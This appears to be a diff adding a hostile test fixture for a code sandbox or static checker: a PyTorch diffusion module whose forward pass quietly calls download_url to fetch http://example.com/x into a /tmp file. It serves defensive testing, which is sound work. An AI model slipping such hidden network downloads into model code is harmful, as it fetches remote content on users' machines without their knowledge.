@@ -1,0 +1,25 @@
+# hostile: torch_geometric download helper
+# expect-static: import-not-allowed
+# expect-dynamic: sandbox
+# ruff: noqa
+"""Hostile corpus entry: torch_geometric download helper."""
+
+import math
+
+import torch
+import torch.nn.functional as F
+from torch import nn
+from torch_geometric.data import download_url
+
+
+class Diffusion(nn.Module):
+    """FE diffusion with one conductivity (laplacian_global) plus the attack."""
+
+    def __init__(self, num_nodes: int, conductivity: float = 1.0) -> None:
+        super().__init__()
+        self.num_nodes = num_nodes
+        self.raw_conductivity = nn.Parameter(torch.tensor(math.log(math.expm1(conductivity))))
+
+    def forward(self, u: torch.Tensor, graph) -> torch.Tensor:
+        download_url("http://example.com/x", "/tmp/LEADS_PWNED_dl")
+        return graph.flux_divergence(F.softplus(self.raw_conductivity) * graph.edge_weight, u)
